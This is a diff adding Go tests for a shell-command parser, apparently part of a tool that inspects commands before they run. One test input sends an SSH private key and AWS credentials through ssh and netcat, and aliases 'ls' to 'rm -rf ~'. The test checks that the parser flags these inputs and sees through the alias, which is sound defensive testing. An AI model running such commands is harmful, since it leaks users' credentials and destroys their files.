@@ -410,3 +410,46 @@ func TestG14_Base(t *testing.T) {
 		}
 	}
 }
+
+func TestG14_InputsAndAliases(t *testing.T) {
+	sc, err := shell.Parse("ssh host cat < ~/.ssh/id_rsa; { nc h 1; } <~/.aws/credentials; alias ls='rm -rf ~'; cat <&3")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got [][]string
+	var aliased bool
+	for _, c := range sc.Commands {
+		if len(c.Inputs) > 0 {
+			got = append(got, c.Inputs)
+		}
+		if len(c.Wrappers) > 0 && c.Wrappers[0] == "alias ls" && c.Program() == "rm" {
+			aliased = true
+		}
+	}
+	if len(got) != 2 || got[0][0] != "~/.ssh/id_rsa" || got[1][0] != "~/.aws/credentials" {
+		t.Errorf("inputs = %q", got)
+	}
+	if !aliased {
+		t.Error("the alias's command was not seen")
+	}
+}
+
+func TestG14_LoopsFromTheSyntaxTree(t *testing.T) {
+	sc, err := shell.Parse(`for f in *.txt; do mv "$f" x; done
+for g in $(find src -name '*.go' | grep -v _test); do gofmt -l "$g"; done
+find /var/log -type f | while IFS= read -r h; do gzip "$h"; done
+for v in $LIST; do echo $v; done
+for p in /etc/*.conf; do cat "$p"; done`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []shell.Loop{{Var: "f", Root: "."}, {Var: "g", Root: "src"}, {Var: "h", Root: "/var/log"}, {Var: "v", Root: ""}, {Var: "p", Root: "/etc"}}
+	if len(sc.Loops) != len(want) {
+		t.Fatalf("Loops = %+v", sc.Loops)
+	}
+	for i, l := range sc.Loops {
+		if l != want[i] {
+			t.Errorf("Loops[%d] = %+v, want %+v", i, l, want[i])
+		}
+	}
+}
